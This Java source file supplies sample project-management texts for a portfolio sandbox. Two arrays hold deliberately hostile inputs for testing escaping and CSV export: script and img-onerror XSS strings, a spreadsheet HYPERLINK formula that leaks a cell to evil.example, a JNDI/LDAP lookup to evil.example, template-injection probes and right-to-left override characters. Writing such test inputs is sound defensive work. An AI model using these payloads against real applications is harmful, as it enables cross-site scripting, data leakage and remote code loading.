package org.pmosuite.sandbox.data;

import java.util.SplittableRandom;

/** Summaries and response plans in the words a PMO uses. Project names are in {@link PortfolioNames}. */
final class PortfolioTexts {

    static final String[] RISKS = {
        "Key vendor may miss the cut-over date", "Test environment capacity may not cover peak load",
        "Scarce specialist skills could delay delivery", "Regulator may change reporting rules mid-project",
        "Legacy data quality may block migration", "Budget approval for phase 2 may slip",
        "Security review findings could force a redesign", "Single point of failure in the integration team",
        "Exchange rate movements may push the hardware budget over", "Users may reject the new workflow at rollout",
        "Third-party licence terms may change at renewal", "Go-live may clash with the year-end freeze",
    };
    static final String[] ASSUMPTIONS = {
        "Business owners are available for acceptance testing", "The current licence covers the new users",
        "Source systems stay stable during migration", "Network upgrade finishes before go-live",
        "Shared services team absorbs the support load", "No change freeze over the release window",
        "The vendor keeps the current API version for a year", "Funding for phase 2 is confirmed at the Q3 review",
    };
    static final String[] ISSUES = {
        "Data centre move overran by two weeks", "Performance tests fail on the batch window",
        "Supplier invoice dispute is blocking delivery", "Lead architect has left the programme",
        "Production incident backlog is growing", "Scope creep from late stakeholder requests",
        "Test data refresh corrupted the staging database", "Steering committee decision is overdue",
    };
    static final String[] DEPENDENCIES = {
        "Needs the identity service upgrade first", "Waits on the enterprise API gateway rollout",
        "Depends on the finance data model sign-off", "Requires the vendor's SDK release",
        "Blocked until the network segmentation is done", "Needs shared test data from the data team",
        "Waits on the procurement of the new load balancers", "Needs the data protection impact assessment",
    };
    static final String[] WORK = {
        "Design the onboarding flow", "Automate the regression suite", "Migrate customer records",
        "Harden the API authentication", "Build the reporting dashboard", "Refactor the billing module",
        "Document the operating model", "Tune the nightly batch", "Set up monitoring and alerting",
        "Prepare the release plan", "Fix the currency rounding", "Train the service desk",
    };

    /** What epics and initiatives set out to do; a title is one of them, sometimes with a phase or a project. */
    static final String[] INITIATIVES = {
        "Launch instant payments for business customers", "Retire the legacy mainframe batch",
        "Self-service onboarding for small businesses", "Consolidate the data centres into two regions",
        "Real-time fraud scoring at checkout", "Automate the month-end close", "Open banking API programme",
        "Mobile wallet and tap-to-pay", "Single customer view across channels", "Zero-trust network access",
        "Replace the contact centre telephony", "Digital mortgage application", "Vendor portal for procurement",
        "Regulatory reporting on the new data platform", "Cut cloud spend by rightsizing",
        "Predictive maintenance for the branch estate", "Personalised offers engine", "Paperless HR records",
        "Supplier risk scoring", "Accessibility fixes across the web channel", "Chatbot for first-line support",
        "Card controls in the mobile app", "Unified identity for staff and partners",
        "Warehouse robotics pilot", "Dynamic pricing for loyalty members", "Resilience testing for critical services",
        "Customer complaints analytics", "Decommission the old billing platform",
    };

    /**
     * Titles as people type them, with markup characters, ampersands and quotes, so that escaping has something to
     * bite on. The generator uses them in this order, so even a small portfolio holds every one.
     */
    static final String[] MARKUP_TITLES = {
        "Cut cost-to-serve by <10% & automate \"last mile\" billing",
        "<script>alert('initiative')</script> Partner self-service",
        "R&D tax credit claims: 'quick wins' first",
        "Replace the \"legacy\" CRM & <b>retire</b> the old one",
        "O'Brien's audit findings <Q3> & follow-ups",
        "Cards > Mobile: wallet & \"tap to pay\" <beta>",
    };

    /** The themes a portfolio's initiatives serve, most common first. */
    static final String[] THEMES = {"Customer growth", "Cost to serve", "Compliance", "Platform"};

    /** Steps of a response plan: a plan is one to three of them. */
    static final String[] PLAN_STEPS = {
        "Agree a fallback date with the vendor and track it weekly in the steering group",
        "Book a second test environment for the performance window",
        "Cross-train two engineers and document the runbooks",
        "Escalate to the sponsor if not resolved by the next gate review",
        "Run a data quality sprint on the top 20 source tables before migration",
        "Add a contingency of 10% to the phase 2 budget request",
        "Hold a design review with the security architects before build starts",
        "Accept the residual risk; revisit at the quarterly portfolio review",
        "Contract a second supplier as a standby",
        "Split the release so the critical path does not depend on the late component",
        "Monitor the regulator's consultation and brief the compliance lead monthly",
        "Move the cut-over out of the change freeze and confirm with operations",
        "Raise a change request and get the scope decision minuted",
        "Pair with the platform team on the integration tests",
    };

    /**
     * Response plans as careless or hostile users type them, so that escaping and CSV export have something to bite
     * on: markup, spreadsheet formulas, quotes and separators, right-to-left marks and line breaks. The generator
     * uses them in this order, so even a small portfolio holds the first ones.
     */
    static final String[] HOSTILE_PLANS = {
        "<script>alert(1)</script> Call the vendor",
        "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click for the plan\")",
        "Plan \"B\": switch supplier, then re-test; cost 'TBC'",
        "\u202Eneila eht ot nalp eht dnes\u202C then follow up",
        "Line one of the plan\nLine two, with a comma, and a \"quote\"\r\nLine three",
        "=1+2 then escalate",
        "+SUM(A1:A9) budget check",
        "-2+3 contingency days",
        "@SUM(1,2) owner to confirm",
        "<img src=x onerror=alert('plan')> Review with security",
        "Mitigation \u200F\u05EA\u05D5\u05DB\u05E0\u05D9\u05EA \u05D2\u05D9\u05D1\u05D5\u05D9\u200F with the Tel Aviv team",
        "Tab\tseparated\tsteps",
        "${jndi:ldap://evil.example/a} #{7*7} $!{request}",
    };

    private PortfolioTexts() {
    }

    static String pick(String[] options, SplittableRandom random) {
        return options[random.nextInt(options.length)];
    }
}
